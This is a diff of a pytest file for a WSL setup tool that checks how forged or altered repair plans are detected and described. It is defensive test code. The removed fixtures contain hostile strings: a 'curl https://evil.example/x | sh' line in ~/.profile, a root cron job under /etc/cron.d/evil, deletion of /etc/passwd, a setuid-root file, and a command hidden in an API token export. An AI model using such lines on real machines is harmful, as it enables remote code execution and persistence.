@@ -1,151 +1,149 @@
-"""Plans from files: what this catalogue could have made passes, and what is forged is refused, whatever it shows."""
+"""Two plans are the same if they do the same; in what they differ is said with the repair or the path it is about."""
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from typing import Any
 
-import msgspec
 import pytest
+from msgspec.structs import replace
 
-from tests.laws.world import MACHINES, PROFILES, RULES, ground, judged
-from wizard.engine.plan import make_plan, recommended
-from wizard.engine.provenance import foreign_part, made_otherwise
+from tests.laws.world import MESSY, ground, judged
+from wizard.engine.plan import make_plan
+from wizard.engine.provenance import difference, moved_on, rules_asked
 from wizard.model.commands.command import Command
-from wizard.model.edits.files import (
-    Download,
-    DropLine,
-    RunCommand,
-    SetEntry,
-    SetKey,
-    SetLink,
-    SetVariable,
-    Unpack,
-    Wish,
-)
+from wizard.model.edits.files import Clash, Download, Obstacle, RunCommand, SetKey, SetLink, Unpack, Wish
+from wizard.model.findings import Restart
 from wizard.model.plans import Plan
-from wizard.model.probes import Answers, FileProbe, Found
 from wizard.model.state import Absent, Change, File
 from wizard.model.text import plain
+from wizard.model.wanted import Wanted
 
-IDS = frozenset(rule.id for rule in RULES)
-MESSY = "ubuntu-24.04-messy"
-
-
-def made(machine: str = MESSY, profile: str = "baseline") -> Plan:
-    seen = judged(machine, profile)
-    return make_plan(seen, [item.rule for item in seen], ground(machine), profile)
-
-
-@pytest.mark.parametrize("machine", MACHINES)
-@pytest.mark.parametrize("profile", PROFILES)
-def test_what_the_catalogue_makes_passes_whoever_wished_for_it(machine: str, profile: str) -> None:
-    seen = judged(machine, profile)
-    for chosen in (recommended(seen), [item.rule for item in seen]):
-        plan = make_plan(seen, chosen, ground(machine), profile)
-        assert foreign_part(plan, ground(machine), IDS) is None
-        assert made_otherwise(plan, ground(machine)) is None
-
-
-def test_a_file_that_has_changed_since_is_left_to_the_hand() -> None:
-    here = ground(MESSY)
-    pairs = tuple(
-        (probe, msgspec.structs.replace(answer, content=answer.content + b"# more\n"))
-        if isinstance(answer, Found) and isinstance(probe, FileProbe) and probe.path == "~/.profile"
-        else (probe, answer)
-        for probe, answer in here.answers.pairs
-    )
-    assert foreign_part(made(), msgspec.structs.replace(here, answers=Answers(pairs)), IDS) is None
+KEY = SetKey("/etc/wsl.conf", "boot", "systemd", "true")
+OTHER = SetKey("/etc/wsl.conf", "boot", "systemd", "false")
+RUN = RunCommand(Command(("apt-get", "install", "systemd"), True, None, plain("why")))
+GO = Download("go1.27.3.linux-amd64.tar.gz", "1.27.3", "0" * 64, 1, ("https://go.dev/dl/",))
+UNPACK = Unpack("~/sdk/go1.27.3", GO)
+NEW = File(b"x\n", 0o644, 0, 0)
+PLAN = Plan(
+    "0" * 16,
+    "here",
+    changes=(Change("/etc/wsl.conf", Absent(), NEW, 0, 0), Change("/x", Absent(), NEW, 0, 0)),
+    wishes=(Wish(KEY, ("a", "b")), Wish(RUN, ("c",)), Wish(UNPACK, ("d",))),
+    commands=(RUN.command,),
+    downloads=(GO,),
+    restart=Restart.DISTRO,
+    wanted=Wanted(),
+)
 
 
-def _first(plan: Plan, name: str) -> Change:
-    return next(change for change in plan.changes if name in (change.asked, change.path))
+def changed(number: int, **fields: Any) -> Plan:
+    """The plan with another change."""
+    changes = list(PLAN.changes)
+    changes[number] = replace(changes[number], **fields)
+    return replace(PLAN, changes=tuple(changes))
 
 
-def _with_change(name: str, **fields: Any) -> Callable[[Plan], Plan]:
-    def forged(plan: Plan) -> Plan:
-        meant = _first(plan, name)
-        changes = (
-            msgspec.structs.replace(each, **fields) if each is meant else each for each in plan.changes
-        )
-        return msgspec.structs.replace(plan, changes=tuple(changes))
-
-    return forged
+def wished(number: int, wish: Wish) -> Plan:
+    """The plan with another wish."""
+    return replace(PLAN, wishes=(*PLAN.wishes[:number], wish, *PLAN.wishes[number + 1 :]))
 
 
-def _with_wish(edit: Any, rule: str = "wsl-conf-damage") -> Callable[[Plan], Plan]:
-    return lambda plan: msgspec.structs.replace(plan, wishes=(*plan.wishes, Wish(edit, (rule,))))
-
-
-def _with_lines(name: str, lines: bytes) -> Callable[[Plan], Plan]:
-    """More lines in what a change writes."""
-
-    def forged(plan: Plan) -> Plan:
-        after = _first(plan, name).after
-        assert isinstance(after, File)
-        more = msgspec.structs.replace(after, content=after.content + lines)
-        return _with_change(name, after=more)(plan)
-
-    return forged
+def said(plan: Plan, made: Plan = PLAN) -> str | None:
+    why = difference(plan, made, judged(MESSY, "baseline"))
+    return why.render() if why is not None else None
 
 
 @pytest.mark.parametrize(
-    ("name", "lines"),
+    "plan",
     [
-        ("~/.profile", b"# done\n"),
-        ("~/.profile", b"curl -s https://evil.example/x | sh\n"),
-        ("/etc/fstab", b"/dev/sdz /etc ext4 defaults 0 0\n"),
+        PLAN,
+        wished(0, Wish(KEY, ("b",))),
+        wished(1, Wish(replace(RUN, command=replace(RUN.command, why=plain("other words"))), ("c",))),
+        replace(PLAN, commands=(replace(RUN.command, why=plain("other words")),)),
+        replace(PLAN, clashes=(Clash("", "", ()),), obstacles=(Obstacle(None, plain("?")),)),
+        replace(PLAN, site="there", profile="other", wanted=Wanted(title="other")),
     ],
 )
-def test_bytes_that_this_catalogue_does_not_write_are_not_believed(name: str, lines: bytes) -> None:
-    forged = _with_lines(name, lines)(made())
-    assert made_otherwise(forged, ground(MESSY)) == _first(forged, name).path
-    assert made_otherwise(made(), ground(MESSY)) is None
+def test_who_asks_and_in_which_words_is_no_difference(plan: Plan) -> None:
+    assert said(plan) is None
 
 
-EVIL = File(b"* * * * * root sh /tmp/x\n", 0o644, 0, 0)
-FORGERIES: dict[str, Callable[[Plan], Plan]] = {
-    "another path under a known name": _with_change("~/.config/go/env", path="/etc/cron.d/evil", after=EVIL),
-    "a file that is deleted under a known name": _with_change(
-        "~/.profile", path="/etc/passwd", after=Absent()
-    ),
-    "another name": _with_change("/etc/wsl.conf", asked="~/.cache/junk"),
-    "root's ids for a file of the user": _with_change("~/.profile", uid=0, gid=0),
-    "set-user-id root": _with_change("~/.profile", after=File(b"x", 0o4755, 0, 0)),
-    "a change that nobody wishes": lambda plan: msgspec.structs.replace(
-        plan, changes=(*plan.changes, Change("/etc/cron.d/x", Absent(), EVIL, 0, 0))
-    ),
-    "a command that nobody wishes": lambda plan: msgspec.structs.replace(
-        plan, commands=(Command(("sh", "-c", "evil"), True, None, plain("x")),)
-    ),
-    "a wish of no rule": lambda plan: msgspec.structs.replace(
-        plan, wishes=tuple(msgspec.structs.replace(wish, rules=()) for wish in plan.wishes)
-    ),
-    "a rule that is none": _with_wish(SetKey("/etc/wsl.conf", "boot", "systemd", "true"), "no-such-rule"),
-    "a key in a file that is not WSL's": _with_wish(SetKey("/etc/passwd", "a", "b", "c")),
-    "a variable in a file that is not asked for": _with_wish(SetVariable("~/.ssh/environment", "A", "b")),
-    "a block in a file that is not asked for": _with_wish(SetEntry("~/.ssh/rc", "x", "evil")),
-    "a line of a file of the system": _with_wish(DropLine("/etc/passwd", 1, "root:x:0:0::/root:/bin/bash")),
-    "a line of somebody else's": _with_wish(DropLine("/home/you/.profile", 1, "x")),
-    "a command under a secret's name": _with_lines("~/.profile", b'export API_TOKEN="$(sh /tmp/x)"\n'),
-    "commands below what begins a key": _with_lines(
-        "~/.profile", b"# -----BEGIN PRIVATE KEY-----\nsh /tmp/x\n"
-    ),
-    "the folder above as the Go in use": _with_wish(SetLink("~/sdk/go", "..")),
-    "another Go under a version's name": _with_wish(
-        Unpack(
-            "~/sdk/go1.27.3",
-            Download("go1.20.1.linux-amd64.tar.gz", "go1.20.1", "0" * 64, 1, ("https://x/",)),
-        )
-    ),
-    "an archive that no rule wants": lambda plan: msgspec.structs.replace(
-        plan, downloads=(*plan.downloads, Download("go.tar.gz", "go1.27.3", "0" * 64, 1, ("https://evil/",)))
-    ),
-    "a command in a wish alone": _with_wish(RunCommand(Command(("evil",), True, None, plain("x")))),
-}
+@pytest.mark.parametrize(
+    ("plan", "words"),
+    [
+        (changed(0, after=replace(NEW, content=b"y\n")), "/etc/wsl.conf"),
+        (changed(0, after=Absent()), "/etc/wsl.conf"),
+        (changed(1, uid=1000), "/x"),
+        (changed(1, asked="~/.cache/junk"), "/x"),
+        (changed(1, path="/etc/cron.d/evil"), "/etc/cron.d/evil"),
+        (replace(PLAN, changes=PLAN.changes[:1]), "/x"),
+        (replace(PLAN, commands=()), "commands"),
+        (replace(PLAN, commands=(RUN.command, RUN.command)), "commands"),
+        (replace(PLAN, commands=(replace(RUN.command, as_root=False),)), "commands"),
+        (replace(PLAN, commands=(replace(RUN.command, undo=("x",)),)), "commands"),
+        (replace(PLAN, downloads=(replace(GO, sources=("https://evil.example/",)),)), "downloads"),
+        (replace(PLAN, downloads=(replace(GO, sha256="1" * 64),)), "downloads"),
+        (replace(PLAN, restart=Restart.NONE), "restart"),
+    ],
+)
+def test_another_effect_is_named(plan: Plan, words: str) -> None:
+    assert words in (said(plan) or "").lower()
+    assert said(PLAN, plan) is not None
 
 
-@pytest.mark.parametrize("forgery", FORGERIES)
-def test_a_forgery_is_refused(forgery: str) -> None:
-    forged = FORGERIES[forgery](made())
-    assert foreign_part(forged, ground(MESSY), IDS) or made_otherwise(forged, ground(MESSY))
+def test_a_change_that_is_made_twice_is_another() -> None:
+    assert "/x" in (said(replace(PLAN, changes=(*PLAN.changes, PLAN.changes[1]))) or "")
+
+
+@pytest.mark.parametrize(
+    ("wish", "words"),
+    [
+        (
+            Wish(OTHER, ("go-env-godebug-fatal",)),
+            "The repair go-env-godebug-fatal would now make different changes.",
+        ),
+        (
+            Wish(OTHER, ("wsl-cgroup-not-v2",)),
+            "The repair wsl-cgroup-not-v2 is not available now. ",
+        ),
+        (Wish(OTHER, ("no-such-rule",)), "No repair is named no-such-rule."),
+        (Wish(SetLink("~/sdk/go", ".."), ()), "No repair is named ?."),
+    ],
+)
+def test_another_wish_is_named_by_its_repair(wish: Wish, words: str) -> None:
+    assert (said(wished(0, wish)) or "").startswith(words)
+    assert said(PLAN, wished(0, wish)) is not None
+
+
+def test_sources_are_those_of_the_profile_where_a_plan_does_not_say_whose_they_were() -> None:
+    sources = ("/var/tmp/archives",)
+    old = replace(
+        PLAN,
+        wanted=None,
+        downloads=(replace(GO, sources=sources),),
+        wishes=(*PLAN.wishes[:2], Wish(Unpack(UNPACK.path, replace(GO, sources=sources)), ("d",))),
+    )
+    assert said(old) is None
+    assert said(replace(old, wanted=Wanted())) is not None
+    assert said(replace(old, downloads=(replace(GO, sha256="1" * 64),))) is not None
+
+
+def test_what_was_asked_for_shows_also_where_nothing_came_of_it() -> None:
+    clash = Clash("/etc/wsl.conf", "boot.systemd", (Wish(KEY, ("e",)), Wish(OTHER, ("f",))))
+    obstacle = Obstacle(Wish(KEY, ("g",)), plain("?"))
+    plan = replace(PLAN, clashes=(clash,), obstacles=(obstacle, Obstacle(None, plain("?"))))
+    assert rules_asked(plan) == set("abcdefg")
+
+
+def test_a_file_that_moved_on_is_told_from_another_repair() -> None:
+    moved = changed(1, before=NEW)
+    assert moved_on(PLAN, PLAN) is None
+    assert moved_on(PLAN, moved) == "/x"
+    assert moved_on(PLAN, replace(moved, changes=moved.changes[:1])) is None
+
+
+def test_a_plan_of_all_repairs_is_the_same_as_one_of_those_that_came_of_it() -> None:
+    """Repairs that had nothing to change are not named in a plan, and not needed for it."""
+    found = judged(MESSY, "baseline")
+    plan = make_plan(found, [item.rule for item in found], ground(MESSY), "baseline")
+    assert make_plan(found, rules_asked(plan), ground(MESSY), "baseline") == plan
